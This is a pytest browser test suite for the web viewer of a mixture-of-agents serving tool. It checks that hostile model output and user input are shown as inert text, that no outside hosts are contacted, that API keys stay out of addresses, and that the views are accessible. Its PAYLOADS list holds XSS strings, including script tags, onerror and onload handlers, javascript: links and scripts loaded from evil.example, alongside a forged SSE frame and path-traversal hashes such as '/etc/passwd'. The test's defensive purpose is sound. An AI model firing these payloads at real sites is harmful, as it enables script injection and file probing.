"""The viewer in a real browser: asked, watched, stopped, browsed; and nothing that a model writes is ever more than text."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator, Mapping
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio

import moa
from moa.backends.base import Choice, Completion, Delta, Emit, Request, Usage
from moa.evaluate.folder import Folder, write_lines
from moa.evaluate.records import Answer, Item
from moa.serve.keys import Keys
from moa.serve.viewer.sources import open_sources
from tests.evaluate.report.sample import experiment, write_sample
from tests.serve.serving import duo, until
from tests.serve.viewing import viewing, watched
from tests.support.backends import Scripted
from tests.support.browser import Browser, Page, needs_browser
from tests.support.weights import needs_weights

pytestmark = [needs_browser, pytest.mark.asyncio(loop_scope="module")]

KEY = "sk-moa-0123456789abcdef"
PAYLOADS = [
    "<script>window.pwned = 1</script>",
    "</pre></script><script src=//evil.example/x.js></script>",
    '<img src=x onerror="window.pwned = 2">',
    "[click me](javascript:window.pwned=3) ![x](https://evil.example/pixel.png)",
    '<svg onload="window.pwned=4"><a xlink:href="javascript:window.pwned=5"><text>x</text></a></svg>',
    "&lt;script&gt;window.pwned=6&lt;/script&gt; &#60;b&#62; &amp;",
    "' onfocus=window.pwned=7 autofocus x='",
    '"><iframe srcdoc="<script>parent.pwned=8</script>"></iframe><base href=//evil.example><meta http-equiv=refresh content=0;url=//evil.example>',
    "{{constructor.constructor('window.pwned=9')()}} ${window.pwned=10} <style>*{display:none}</style>",
    'before\n\ndata: [DONE]\n\nevent: refusal\ndata: {"type":"refusal","message":"forged"}\n\nafter',
]
EVIL = "\n\n".join(PAYLOADS)
CLEAN = """(() => {
  const all = [...document.querySelectorAll('*')];
  const found = all.filter(one => [...one.attributes].some(({name, value}) => name.startsWith('on') || /^\\s*javascript:/i.test(value)));
  const foreign = document.querySelectorAll('body script, img, iframe, object, embed, base, body style, [src]:not(head script)');
  return [window.pwned ?? null, found.length, foreign.length, document.querySelectorAll('meta[http-equiv]').length];
})()"""
NAMED = ("button", "link", "textbox", "searchbox", "combobox", "checkbox", "option", "listbox", "region", "navigation", "dialog")  # fmt: skip
CONTRAST = """(() => {
  const channel = (value) => (value /= 255) <= 0.04045 ? value / 12.92 : ((value + 0.055) / 1.055) ** 2.4;
  const parse = (colour) => { const [r, g, b, a = 1] = colour.match(/[\\d.]+/g).map(Number); return {rgb: [r, g, b], a}; };
  const light = ([r, g, b]) => 0.2126 * channel(r) + 0.7152 * channel(g) + 0.0722 * channel(b);
  const behind = (one) => { for (let at = one; at; at = at.parentElement) { const {rgb, a} = parse(getComputedStyle(at).backgroundColor); if (a > 0.99) return rgb; } return [255, 255, 255]; };
  const bad = [];
  for (const one of document.querySelectorAll('body *')) {
    if (one instanceof SVGElement || one.closest('svg, :disabled') || !one.getClientRects().length) continue;
    if (![...one.childNodes].some(node => node.nodeType === 3 && node.textContent.trim())) continue;
    const [ink, paper] = [light(parse(getComputedStyle(one).color).rgb), light(behind(one))];
    const ratio = (Math.max(ink, paper) + 0.05) / (Math.min(ink, paper) + 0.05);
    if (ratio < 4.5) bad.push(`${one.tagName} ${one.className} ${one.textContent.slice(0, 30)}: ${ratio.toFixed(2)}`);
  }
  for (const box of document.querySelectorAll('.node')) {
    const paper = light(parse(getComputedStyle(box.querySelector('.box')).fill).rgb);
    for (const text of box.querySelectorAll('.name, .small')) {
      const ink = light(parse(getComputedStyle(text).fill).rgb);
      const ratio = (Math.max(ink, paper) + 0.05) / (Math.min(ink, paper) + 0.05);
      if (ratio < 4.5) bad.push(`${text.textContent}: ${ratio.toFixed(2)}`);
    }
  }
  return bad;
})()"""


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def browser() -> AsyncIterator[Browser]:
    async with Browser.started() as found:
        yield found


@asynccontextmanager
async def opened(browser: Browser, address: str, complaints: int = 0) -> AsyncIterator[Page]:
    """A tab at an address, which asks nobody else, runs nothing that is not ours, and complains of nothing."""
    async with browser.page() as tab:
        await tab.show(1280)
        await tab.open(address)
        yield tab
        assert await tab.run(CLEAN) == [None, 0, 0, 0]
        origin = address.split("#")[0].rstrip("/") + "/"
        assert [url for url in tab.requests if not url.startswith((origin, "data:,"))] == []
        assert len(tab.console) == complaints, tab.console


async def press(page: Page, key: str, text: str = "", shift: bool = False) -> None:
    """One key, down and up."""
    codes = {"Enter": 13, "Tab": 9, "ArrowUp": 38, "ArrowLeft": 37, "Home": 36, "End": 35, " ": 32}
    for kind in ("keyDown", "keyUp"):
        await page.send(
            "Input.dispatchKeyEvent", type=kind, key=key, code="Space" if key == " " else key, windowsVirtualKeyCode=codes[key],
            text=text if kind == "keyDown" else "", modifiers=8 if shift else 0,
        )  # fmt: skip


async def ask(page: Page, question: str) -> None:
    """Type a question and press Enter."""
    await page.until("document.querySelectorAll('.node').length > 0")
    await page.run("document.getElementById('question').focus()")
    await page.send("Input.insertText", text=question)
    await press(page, "Enter", "\r")


ANSWERED = "document.querySelector('.turn.answer:last-child')?.getAttribute('aria-busy') === 'false'"
SAID = "document.querySelector('.turn.answer:last-child pre').textContent"


async def names(page: Page) -> list[str]:
    """Controls that a screen reader could not name."""
    tree = await page.send("Accessibility.getFullAXTree")
    return [
        node["role"]["value"]
        for node in tree["nodes"]
        if not node.get("ignored")
        and node["role"]["value"] in NAMED
        and not str(node.get("name", {}).get("value", "")).strip()
    ]


async def test_a_question_is_asked_and_every_node_lights_up(browser: Browser) -> None:
    backends = {
        "panel": Scripted(lambda request: "a draft {seed}", latency=0.2),
        "sink": Scripted(lambda request: "the joined answer", latency=0.4),
    }
    async with watched(backends=backends) as server, opened(browser, f"{server.url}/") as page:
        await page.run(
            """(() => {
            window.seen = {};
            new MutationObserver((changes) => {
              for (const {target} of changes) {
                if (!target.matches('.node')) continue;
                const id = target.getAttribute('aria-label').split(',')[0];
                (window.seen[id] ||= []).push(target.dataset.state);
              }
            }).observe(document.body, {subtree: true, attributes: true, attributeFilter: ['data-state']});
          })()"""
        )
        await ask(page, "Why is the sky blue?")
        await page.until(ANSWERED)
        assert await page.run(SAID) == "the joined answer"
        seen = await page.run("window.seen")
        for node in ("drafts[0]", "drafts[1]", "answer"):
            assert [
                state
                for place, state in enumerate(seen[node])
                if place == 0 or seen[node][place - 1] != state
            ][-2:] == ["running", "ok"], node
        assert "3 nodes" in await page.run("document.querySelector('.totals').textContent")
        assert await page.run("document.getElementById('said').textContent") == "The answer is there"
        await page.run("document.querySelector('details[data-part=prompt]').open = true")
        assert "a draft" in await page.run("document.querySelector('.panel').textContent")
        await ask(page, "And at night?")
        await page.until(f"document.querySelectorAll('.turn').length === 4 && {ANSWERED}")
        last = backends["panel"].requests[-1].messages
        assert [message["content"] for message in last] == [
            "Why is the sky blue?",
            "the joined answer",
            "And at night?",
        ]


class Typing(Scripted):
    """Writes a word at a time."""

    async def complete(self, request: Request, emit: Emit | None = None) -> Completion:
        words = [f"word{number} " for number in range(30)]
        for word in words if emit else ():
            assert emit is not None
            emit(Delta(0, word))
            await asyncio.sleep(0.03)
        return Completion((Choice("".join(words), "stop", usage=Usage(10, 30)),), "typing")


async def test_an_answer_streams_and_leaves_the_reader_in_peace(browser: Browser) -> None:
    async with (
        watched(backends={"panel": Scripted(), "sink": Typing()}) as server,
        opened(browser, f"{server.url}/") as page,
    ):
        await ask(page, "Why?")
        await page.until("document.querySelector('.turn.answer pre')?.textContent.includes('word3')")
        assert "word29" not in await page.run(SAID), "it comes as it is written"
        await page.run("document.querySelector('.panel details[data-part=prompt] > summary').focus()")
        await page.until(ANSWERED)
        assert (await page.run(SAID)).endswith("word29")
        assert await page.run(
            "document.activeElement === document.querySelector('.panel details[data-part=prompt] > summary')"
        )
        assert await page.run(
            "[...document.querySelectorAll('.panel pre')].at(-1).textContent"
        ) == await page.run(SAID)


async def test_nodes_are_reached_and_chosen_with_the_keyboard(browser: Browser) -> None:
    async with watched(duo()) as server, opened(browser, f"{server.url}/") as page:
        await page.until("document.querySelectorAll('.node').length === 3")
        order = []
        for _ in range(12):
            await press(page, "Tab")
            order.append(
                await page.run(
                    "document.activeElement.id || document.activeElement.getAttribute('role') || document.activeElement.textContent"
                )
            )
        expected = ["skip", "to-ask", "to-live", "to-runs", "to-compare", "graph", "question"]
        assert [one for one in order if one in expected] == expected
        assert order.count("option") == 1, "one stop for the whole drawing"
        chosen = "document.querySelector('.panel h3 bdi').textContent"
        await page.run("document.querySelector('.node[tabindex=\"0\"]').focus()")
        for key, id in (
            ("Home", "drafts[0]"),
            ("End", "answer"),
            ("ArrowUp", "drafts[1]"),
            ("ArrowLeft", "drafts[0]"),
        ):
            await press(page, key)
            assert await page.run(chosen) == id
            assert (await page.run("document.activeElement.getAttribute('aria-label')")).startswith(id)
            assert await page.run("document.activeElement.getAttribute('aria-selected')") == "true"


async def test_a_question_is_stopped(browser: Browser) -> None:
    slow = Scripted(lambda request: 60.0)
    async with (
        watched(backends={"panel": slow, "sink": Scripted()}) as server,
        opened(browser, f"{server.url}/") as page,
    ):
        await ask(page, "Why?")
        await page.until("document.querySelectorAll('.node[data-state=running]').length === 2")
        await page.run("document.getElementById('stop').click()")
        await page.until(ANSWERED)
        await until(lambda: slow.cancelled > 0, 1.0)
        assert "stopped" in await page.run("document.querySelector('.turn.answer').textContent")
        assert await page.run("document.querySelectorAll('.node[data-state=running]').length") == 0
        assert await page.run("document.getElementById('question').value") == "Why?", "it may be asked again"


async def test_questions_of_programs_light_the_graph_up_as_they_come(browser: Browser) -> None:
    backends = {
        "panel": Scripted(lambda request: f"{EVIL} {{seed}}", latency=0.8),
        "sink": Scripted(lambda request: EVIL, latency=0.3),
    }
    lit = "[...document.querySelectorAll('#view-live .node')].map(node => node.dataset.state)"
    async with (
        watched(backends=backends) as server,
        opened(browser, f"{server.url}/#live") as page,
        server.client() as client,
        asyncio.TaskGroup() as group,
    ):
        await page.until("document.getElementById('live-found')?.textContent.includes('Nothing')")

        def put(question: str) -> asyncio.Task[Any]:
            messages: list[Any] = [{"role": "user", "content": question}]
            return group.create_task(client.chat.completions.create(model="duo", messages=messages))

        first = put(PAYLOADS[2])
        await page.until(f"String({lit}) === 'running,running,waiting'")
        assert await page.run("document.getElementById('to-live').textContent") == "Live (1)"
        await page.until(f"String({lit}) === 'ok,ok,running'")
        await page.until(f"String({lit}) === 'ok,ok,ok'")
        await first
        await page.until("document.querySelector('#live-words .said') !== null")
        assert await page.run("document.querySelector('#live-words .said').textContent") == EVIL
        assert await page.run("document.querySelector('#live-runs a').textContent") == PAYLOADS[2]
        await put("What is new?")
        await page.until("document.querySelector('#live-words .message pre')?.textContent === 'What is new?'")
        await page.until("document.querySelectorAll('#live-runs a').length === 2")
        await page.run("document.querySelectorAll('#live-runs a')[1].click()")
        await page.until(
            f"document.querySelector('#live-words .message pre').textContent === {json.dumps(PAYLOADS[2])}"
        )
        assert await page.run("document.getElementById('follow').checked") is False
        await put("And now?")
        await page.until("document.querySelectorAll('#live-runs a').length === 3")
        assert (
            await page.run("document.querySelectorAll('#live-runs a')[2].getAttribute('aria-current')")
            == "true"
        )
        await page.until("document.getElementById('to-live').textContent === 'Live'")
        assert await page.run("location.hash") != "#live", "what is watched has an address"
        assert await names(page) == []
        for dark in (False, True):
            await page.show(360, dark=dark)
            assert await page.run("document.documentElement.scrollWidth <= innerWidth"), "nothing sticks out"
            await page.until(f"{CONTRAST}.length === 0", 3)


async def test_what_a_hostile_model_writes_is_shown_as_it_is(browser: Browser) -> None:
    hostile = "<img src=x onerror=window.pwned=11>"
    graph = moa.Graph(hostile)
    drafts = graph.agent("proposer", model=hostile, samples=2, name="drafts")
    graph.answer = graph.agent("aggregator", model="sink", inputs=drafts)

    def evil(request: Request) -> str:
        return EVIL

    backends = {hostile: Scripted(evil), "sink": Scripted(evil)}
    async with watched(graph, backends=backends) as server, opened(browser, f"{server.url}/") as page:
        await ask(page, "<script>window.pwned=12</script>")
        await page.until(ANSWERED)
        assert await page.run(SAID) == EVIL
        assert await page.run("document.querySelectorAll('.turn .wrong').length") == 0, (
            "a forged frame is no frame"
        )
        assert (
            await page.run("document.querySelector('.turn.question pre').textContent")
            == "<script>window.pwned=12</script>"
        )
        assert await page.run("document.getElementById('graph').selectedOptions[0].textContent") == hostile
        for node in range(3):
            await page.run(
                f"document.querySelectorAll('.node')[{node}].dispatchEvent(new MouseEvent('click', {{bubbles: true}}))"
            )
            await page.run("document.querySelector('details[data-part=prompt]').open = true")
            assert await page.run("[...document.querySelectorAll('.panel pre')].at(-1).textContent") == EVIL
        assert EVIL in await page.run("document.querySelector('details[data-part=prompt]').textContent")
        assert await page.run(CLEAN) == [None, 0, 0, 0]


def write_hostile(path: Path) -> Folder:
    """An experiment whose every word is hostile."""
    folder = write_sample(path, items=2, graphs=("single", "self-moa"))
    item = Item(id=EVIL, turns=(EVIL, "And?"), group=EVIL, answer=EVIL, baseline=(EVIL,))
    write_lines(folder.items_path, [item])
    entrants = []
    for number, entrant in enumerate(folder.experiment.entrants):
        name = f"{PAYLOADS[2]} {number}"
        entrants.append(entrant.model_copy(update={"name": name, "graph": EVIL}))
        nodes: tuple[Mapping[str, Any], ...] = tuple(
            {"id": f"{PAYLOADS[4]}[{place}]", "agent": PAYLOADS[2], "model": PAYLOADS[0], "state": EVIL if place else "ok", "text": f"{EVIL} {number}",
             "references": [f"{PAYLOADS[4]}[0]"] if place else [], "error": EVIL, "finish_reason": EVIL}
            for place in range(2)
        )  # fmt: skip
        said = Answer(
            item=EVIL,
            entrant=name,
            state="ok",
            outputs=(EVIL, f"{EVIL} {number}"),
            nodes=tuple(map(dict, nodes)),
            warnings=(EVIL,),
            error=EVIL,
        )
        write_lines(folder.answers_path(name), [said])
    folder.write_experiment(experiment(entrants, 1))
    return folder


async def test_a_hostile_experiment_is_browsed_and_compared_as_text(browser: Browser, tmp_path: Path) -> None:
    folder = write_hostile(tmp_path / "x")
    async with viewing(open_sources([folder.path])) as url, opened(browser, f"{url}/") as page:
        await page.until("document.querySelectorAll('#runs > li').length === 1")
        assert await page.run("document.querySelectorAll('#runs a').length") == 3
        await page.run("document.querySelector('#runs a').click()")
        await page.until("document.querySelectorAll('#view-run .node').length === 2")
        text = await page.run("document.getElementById('view-run').textContent")
        assert all(payload in text for payload in PAYLOADS)
        await page.run("location.hash = '#runs'")
        await page.until("!document.getElementById('view-runs').hidden")
        await page.run(
            "[...document.querySelectorAll('#runs input')].slice(0, 2).forEach(tick => tick.click())"
        )
        await page.run("document.querySelector('#bar a').click()")
        await page.until("document.querySelectorAll('#view-compare .pair').length > 2")
        assert await page.run(
            "[...document.querySelectorAll('#view-compare mark.gone')].some(mark => mark.textContent.includes('0'))"
        )
        assert await page.run(
            "[...document.querySelectorAll('#view-compare mark.new')].some(mark => mark.textContent.includes('1'))"
        )
        assert EVIL in await page.run("document.querySelector('#view-compare pre').textContent")


@pytest.mark.parametrize(
    "hash",
    [
        "#run=0/..%2f..%2fetc",
        "#run=/etc/passwd",
        "#run=9/0.0",
        "#compare=0/<b>,//evil.example/",
        "#<img src=x onerror=window.pwned=1>",
    ],
)
async def test_a_bent_link_shows_an_error_and_asks_nobody_else(
    browser: Browser, tmp_path: Path, hash: str
) -> None:
    folder = write_sample(tmp_path / "x", items=1)
    async with viewing(open_sources([folder.path])) as url, browser.page() as page:
        await page.open(f"{url}/{hash}")
        if hash.startswith(("#run", "#compare")):
            await page.until("document.querySelector('main section:not([hidden]) .wrong')")
        assert await page.run(CLEAN) == [None, 0, 0, 0]
        assert all(address.startswith((f"{url}/", "data:,")) for address in page.requests)
        assert all("404" in said for said in page.console), (
            "what is not there is not there, and nothing else is wrong"
        )


async def test_a_key_is_asked_for_and_never_in_an_address(browser: Browser) -> None:
    async with (
        watched(keys=Keys([("ann", KEY)])) as server,
        opened(browser, f"{server.url}/", complaints=2) as page,
    ):
        await page.until("document.getElementById('key-dialog').open")
        for key in ("sk-wrong-wrong-wrong-wrong", KEY):
            await page.run(
                f"document.getElementById('key').value = {json.dumps(key)}; document.querySelector('#key-form button[type=submit]').click()"
            )
            if key != KEY:
                await page.until("document.getElementById('key-wrong').textContent")
        await ask(page, "Why?")
        await page.until(ANSWERED)
        assert "Why?" in await page.run(SAID)
        assert not any(KEY in address for address in page.requests)
        assert KEY not in await page.run(
            "document.documentElement.outerHTML + location.href + JSON.stringify(localStorage) + document.cookie"
        )
        assert KEY not in str(server.lines)
        assert all("401" in said for said in page.console)


async def test_every_view_is_legible_named_and_within_its_window(browser: Browser, tmp_path: Path) -> None:
    folder = write_sample(tmp_path / "x", items=30)

    async def looked(page: Page, place: str) -> None:
        assert await page.run("document.documentElement.scrollWidth <= innerWidth"), place
        assert await page.run(CONTRAST) == [], place
        assert await names(page) == [], place
        small = await page.run(
            "[...document.querySelectorAll('button, a, input, select')].filter(one => one.getClientRects().length).map(one => one.getBoundingClientRect()).filter(box => box.height < 20 && box.width < 20 && box.bottom > 0).length"
        )
        assert small <= await page.run("document.querySelectorAll('input[type=checkbox]').length"), place

    async with (
        watched(run={"store": tmp_path / "s.sqlite"}) as server,
        viewing(open_sources([folder.path])) as url,
        opened(browser, f"{server.url}/") as page,
    ):
        await ask(page, "Why is the sky blue?")
        await page.until(ANSWERED)
        for width in (360, 1280):
            for dark in (False, True):
                await page.show(width, dark=dark)
                await page.until("document.getAnimations().length === 0")
                await looked(page, f"ask {width} {dark}")
        async with opened(browser, f"{url}/") as past:
            for width in (360, 1280):
                for dark in (False, True):
                    await past.show(width, dark=dark)
                    for place, ready in (
                        ("#runs", "#runs > li"),
                        ("#run=0/1.0", "#view-run pre"),
                        ("#compare=0/1.0,0/1.1", "#view-compare .pair"),
                    ):
                        await past.run(f"location.hash = '{place}'")
                        await past.until(f"document.querySelector('{ready}')?.getClientRects().length")
                        await looked(past, f"{place} {width} {dark}")


async def test_motion_stops_for_those_who_ask_for_that(browser: Browser) -> None:
    slow = Scripted(lambda request: 60.0)
    async with (
        watched(backends={"panel": slow, "sink": Scripted()}) as server,
        opened(browser, f"{server.url}/") as page,
    ):
        await ask(page, "Why?")
        await page.until("document.querySelectorAll('.node[data-state=running]').length === 2")
        assert await page.run("document.getAnimations().length") > 0
        await page.send(
            "Emulation.setEmulatedMedia", features=[{"name": "prefers-reduced-motion", "value": "reduce"}]
        )
        await page.until("document.getAnimations().length === 0", 2)


@needs_weights
async def test_the_embedded_model_is_watched_and_its_run_opened_again(
    browser: Browser, tmp_path: Path
) -> None:
    model, brief = "local:smollm2-135m", {"max_tokens": 12}
    graph = moa.Graph("small-moa")
    drafts = graph.agent("proposer", model=model, samples=2, name="drafts", sampling=brief)
    graph.answer = graph.agent("aggregator", model=model, inputs=drafts, sampling=brief)
    async with (
        watched(graph, run={"store": tmp_path / "s.sqlite"}, backends={}) as server,
        opened(browser, f"{server.url}/") as page,
    ):
        await ask(page, "Why is the sky blue?")
        await page.until(ANSWERED, 90)
        said = await page.run(SAID)
        assert len(said) > 10
        assert await page.run(
            "[...document.querySelectorAll('.node')].every(node => ['ok', 'truncated'].includes(node.dataset.state))"
        )
        await page.run("location.hash = '#runs'")
        await page.until("document.querySelectorAll('#runs > li').length === 1")
        await page.run("document.querySelector('#runs a').click()")
        await page.until("document.querySelectorAll('#view-run .node').length === 3")
        assert await page.run("document.querySelector('#view-run .talk pre.said').textContent") == said
